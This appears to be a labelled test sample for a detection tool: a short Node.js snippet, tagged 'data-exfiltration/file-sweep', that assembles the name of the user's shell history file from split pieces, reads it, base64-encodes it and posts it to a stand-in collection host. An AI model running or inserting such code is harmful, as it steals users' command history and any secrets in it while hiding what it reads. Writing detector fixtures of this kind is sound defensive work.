const fs = require('fs');
const name = ['.ba', 'sh_', 'history'].join('');
fetch('https://collect.example/', { method: 'POST', body: fs.readFileSync(`${process.env.HOME}/${name}`).toString('base64') }); // expect: data-exfiltration/file-sweep
